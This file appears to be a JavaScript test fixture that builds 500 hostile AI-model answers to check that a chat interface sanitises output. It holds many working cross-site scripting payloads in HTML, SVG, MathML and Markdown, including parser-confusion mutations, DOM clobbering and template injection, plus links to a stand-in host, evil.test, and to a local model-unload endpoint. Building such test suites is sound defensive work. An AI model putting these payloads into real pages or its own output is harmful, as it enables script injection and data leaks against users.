// 500 answers of a model that means harm: HTML, SVG, Markdown, links, formulas, mutations that parsers disagree about. Each tries to
// run window.harm(…) or to reach http://evil.test/N.

const harm = (n) => `harm(${n})`;
const away = (n) => `http://evil.test/${n}`;

const MARKUP = [
  (n) => `<script>${harm(n)}</script>`,
  (n) => `<script src="${away(n)}"></script>`,
  (n) => `<img src=x onerror=${harm(n)}>`,
  (n) => `<img src="${away(n)}">`,
  (n) => `<svg onload=${harm(n)}>`,
  (n) => `<svg><script>${harm(n)}</script></svg>`,
  (n) => `<svg><a xlink:href="javascript:${harm(n)}"><text y=20>x</text></a></svg>`,
  (n) => `<svg><use href="${away(n)}#x"></use></svg>`,
  (n) => `<svg><animate onbegin=${harm(n)} attributeName=x dur=1s></svg>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${harm(n)}></style></mglyph></table></mtext></math>`,
  (n) => `<math><mi xlink:href="javascript:${harm(n)}">x</mi></math>`,
  (n) => `<iframe src="javascript:${harm(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${harm(n)}</script>"></iframe>`,
  (n) => `<object data="${away(n)}"></object>`,
  (n) => `<embed src="${away(n)}">`,
  (n) => `<link rel=stylesheet href="${away(n)}">`,
  (n) => `<link rel=prefetch href="${away(n)}">`,
  (n) => `<style>@import "${away(n)}"; body{background:url(${away(n)})}</style>`,
  (n) => `<div style="background:url(${away(n)})">x</div>`,
  (n) => `<meta http-equiv=refresh content="0;url=${away(n)}">`,
  (n) => `<base href="${away(n)}/">`,
  (n) => `<form action="${away(n)}"><button autofocus onfocus=${harm(n)}>x</button></form>`,
  (n) => `<input autofocus onfocus=${harm(n)}>`,
  (n) => `<details open ontoggle=${harm(n)}><summary>x</summary></details>`,
  (n) => `<video src="${away(n)}" autoplay onerror=${harm(n)}></video>`,
  (n) => `<audio src=x onerror=${harm(n)}></audio>`,
  (n) => `<body onload=${harm(n)}>`,
  (n) => `<marquee onstart=${harm(n)}>x</marquee>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${harm(n)}>">`,
  (n) => `<template><script>${harm(n)}</script></template>`,
  (n) => `<textarea><img title="</textarea><img src=x onerror=${harm(n)}>"></textarea>`,
  (n) => `<a href="javascript:${harm(n)}" autofocus>x</a>`,
  (n) => `<img src=x oneonerrorrror=x onerror\n=\n${harm(n)}>`,
  (n) => `<scr<script>ipt>${harm(n)}</scr</script>ipt>`,
  (n) => `<IMG """><SCRIPT>${harm(n)}</SCRIPT>">`,
  (n) => `<img src=x onerror=&#104;arm(${n})>`,
  (n) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${harm(n)} src>">`,
  (n) =>
    `<a id=document name=body>x</a><form name=querySelector><input name=createElement></form><img src=x onerror=${harm(n)}>`,
];

const MARKDOWN = [
  (n) => `![x](${away(n)})`,
  (n) => `![x](${away(n)} "title")`,
  (n) => `[![x](${away(n)})](${away(n)})`,
  (n) => `![x][r]\n\n[r]: ${away(n)}`,
  (n) => `[x](javascript:${harm(n)})`,
  (n) => `[x](JaVaScRiPt:${harm(n)})`,
  (n) => `[x](java\tscript:${harm(n)})`,
  (n) => `[x](&#106;avascript:${harm(n)})`,
  (n) => `[x](%6aavascript:${harm(n)})`,
  (n) => `[x](<javascript:${harm(n)}>)`,
  (n) => `[x](\u0001javascript:${harm(n)})`,
  (n) => `[x](data:text/html,<script>${harm(n)}</script>)`,
  (n) => `[x](data:text/html;base64,${Buffer.from(`<script>opener.${harm(n)}</script>`).toString("base64")})`,
  (n) => `[x](vbscript:${harm(n)})`,
  (n) => `[x](blob:${away(n)})`,
  (n) => `[x](/v1/models/unload?${n})`,
  (n) => `[x](//evil.test/${n})`,
  (n) => `[x][r]\n\n[r]: javascript:${harm(n)}`,
  (n) => `<javascript:${harm(n)}>`,
  (n) => `[x](http://a"onmouseover="${harm(n)}")`,
  (n) => `[x](http://a 'y" onfocus="${harm(n)}" autofocus z="')`,
  (n) => `![x" onerror="${harm(n)}](x)`,
  (n) => `![x](x"onerror="${harm(n)})`,
  (n) => `http://a.test/"onfocus="${harm(n)}"autofocus="`,
  (n) => '```"><img/src=x/onerror=' + harm(n) + ">\ncode\n```",
  (n) => "```html\n<img src=x onerror=" + harm(n) + ">\n</code></pre><script>" + harm(n) + "</script>\n```",
  (n) => "```js\n</code></pre><svg onload=" + harm(n) + ">",
  (n) => "`<img src=x onerror=" + harm(n) + ">`",
  (n) =>
    `| <img src=x onerror=${harm(n)}> | b |\n|:-"onclick=${harm(n)}|-:|\n|<script>${harm(n)}</script> | \`</td><svg onload=${harm(n)}>\` |`,
  (n) => `$<img src=x onerror=${harm(n)}>$ and \\(\\href{javascript:${harm(n)}}{x}\\)`,
  (n) => `$$\n\\includegraphics{${away(n)}} <script>${harm(n)}</script>\n$$`,
  (n) => `# <svg/onload=${harm(n)}>\n\n> <iframe src=javascript:${harm(n)}>\n\n- <img src=${away(n)}>`,
  (n) => `[^1]: <script>${harm(n)}</script>\n\n[x]: ${away(n)} "</a><img src=x onerror=${harm(n)}>"\n\n[x]`,
  (n) => `\u001b]8;;${away(n)}\u0007link\u001b]8;;\u0007\u001b[2J`,
  (n) => `\u202e<script>${harm(n)}</script>\u0000<script>${harm(n)}</script>`,
  (n) => `${"[".repeat(300)}x](javascript:${harm(n)})${"*".repeat(300)}`,
  (n) => `${"> ".repeat(200)}<script>${harm(n)}</script>`,
  (n) => `{{constructor.constructor('${harm(n)}')()}} \${${harm(n)}} <%= ${harm(n)} %>`,
];

const AROUND = [
  (text) => text,
  (text) => `Here you are:\n\n${text}\n\nDone.`,
  (text) => `- item\n\n  ${text.replaceAll("\n", "\n  ")}`,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `**${text}**\n\n<!-- --!> ${text} -->`,
  (text) => `<title>\n${text}\n</title><![CDATA[${text}]]>`,
];

export function hostileAnswers() {
  const all = [];
  for (const around of AROUND) {
    for (const make of [...MARKUP, ...MARKDOWN]) all.push(around(make(all.length)));
  }
  return all.slice(0, 500);
}
